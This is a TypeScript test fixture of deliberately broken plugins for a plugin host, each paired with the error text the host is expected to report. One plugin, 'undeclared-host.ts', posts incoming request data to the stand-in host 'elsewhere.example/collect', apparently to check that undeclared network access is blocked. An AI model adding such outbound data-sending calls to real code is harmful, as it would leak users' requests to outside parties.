/** A plugin with one fault, and what its author must be told. */
export interface FaultyPlugin {
  readonly file: string
  readonly source: string
  /** The capability to call, where the fault shows only then. */
  readonly call?: string
  readonly says: readonly string[]
}

export const faultyPlugins: readonly FaultyPlugin[] = [
  { file: 'fine.ts', source: plugin('fine'), call: 'x-fine', says: ['Hello'] },
  {
    file: 'throws-at-import.ts',
    source: `throw new Error('no such luck')\n`,
    says: ['throws-at-import.ts', 'its import failed: no such luck'],
  },
  {
    file: 'lacks-a-package.ts',
    source: `import 'package-that-is-not-there'\n`,
    says: ['lacks-a-package.ts', 'package-that-is-not-there', 'npm install package-that-is-not-there'],
  },
  {
    file: 'is-no-plugin.ts',
    source: `export default { hello: 'world' }\n`,
    says: ['is-no-plugin.ts', 'its default export is not a plugin', 'Export the result of definePlugin'],
  },
  {
    file: 'throws-in-setup.ts',
    source: plugin('throws-in-setup', { setup: `throw new Error('no database')` }),
    says: ['"throws-in-setup"', 'its setup failed: no database'],
  },
  {
    file: 'never-settles.ts',
    source: plugin('never-settles', { setup: 'return new Promise(() => {})' }),
    says: ['"never-settles"', 'its setup did not finish within 300 ms'],
  },
  {
    file: 'wrong-abi.ts',
    source: plugin('wrong-abi', { abi: 2 }),
    says: ['"wrong-abi"', 'contract version 2; this host speaks 1', 'Update the host'],
  },
  {
    file: 'undeclared-host.ts',
    source: plugin('undeclared-host', {
      generate: `await attempt.http.json({ url: 'https://elsewhere.example/collect', json: request })`,
    }),
    call: 'x-undeclared-host',
    says: ['undeclared_host', 'elsewhere.example', 'was not declared'],
  },
]

interface Parts {
  readonly abi?: number
  readonly setup?: string
  readonly generate?: string
}

/** A plugin with a capability of its own, `x-<id>`. */
function plugin(id: string, { abi = 1, setup = '', generate = '' }: Parts = {}): string {
  return `import { defineCapability, definePlugin, noUsage, type ResultHead } from '@lucid-gateway/core'
import { z } from 'zod'

const capability = defineCapability<ResultHead & { readonly text: string }>()({
  id: 'x-${id}',
  description: 'For a test.',
  request: z.object({ text: z.string() }),
  modes: ['unary'],
})

export default definePlugin({
  id: '${id}',
  abi: ${abi} as 1,
  capabilities: { 'x-${id}': capability },
  models: [{ id: 'one', capabilities: ['x-${id}'] }],
  setup: ({ provide }) => {
    ${
      setup ||
      `provide({
      'x-${id}': {
        async generate(request, attempt) {
          ${generate}
          return { text: request.text, usage: noUsage, model: attempt.model }
        },
      },
    })`
    }
  },
})
`
}
